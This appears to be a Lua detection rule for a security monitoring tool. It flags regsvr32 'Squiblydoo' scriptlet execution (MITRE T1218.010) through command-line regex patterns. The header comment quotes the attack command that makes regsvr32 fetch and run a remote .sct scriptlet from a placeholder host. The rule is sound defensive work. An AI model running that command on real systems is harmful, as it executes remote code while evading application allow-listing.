--[[
VGL-DE-0003: regsvr32 runs a remote or COM scriptlet, "Squiblydoo" (MITRE
T1218.010, System Binary Proxy Execution: Regsvr32).

regsvr32 /s /n /u /i:http://host/file.sct scrobj.dll makes a signed Windows
binary fetch and run a scriptlet, bypassing application allow-listing. The
rule looks for /i: with a URL, a UNC path or a .sct file, or for scrobj.dll
on the command line; registering a local DLL does not match.
]]

return vigil.rule {
  id = "VGL-DE-0003",
  title = "regsvr32 executing a scriptlet (Squiblydoo)",
  description = "regsvr32 was started with /i: pointing at a URL, UNC path or .sct " ..
    "scriptlet, or with scrobj.dll.",
  severity = "high",
  tactic = "Defense Evasion",
  technique = "T1218.010",
  tags = {"windows", "process", "lolbin"},
  where = {
    ["event.category"] = "process",
    ["process.command_line"] = {
      vigil.re [=[[/-]i:"?(https?://|\\\\)]=],
      vigil.re [=[[/-]i:"?[^[:space:]"]*\.sct([[:space:]"]|$)]=],
      vigil.re [=[scrobj(\.dll)?([[:space:]"]|$)]=],
    },
  },
  match = function(e)
    local cmd = e["process.command_line"]
    return type(cmd) == "string" and cmd:lower():find("regsvr32", 1, true) ~= nil
  end,
  entities = { host = "vigil.host", account = "vigil.user", process = "process.executable" },
  suppress = "1h",
}
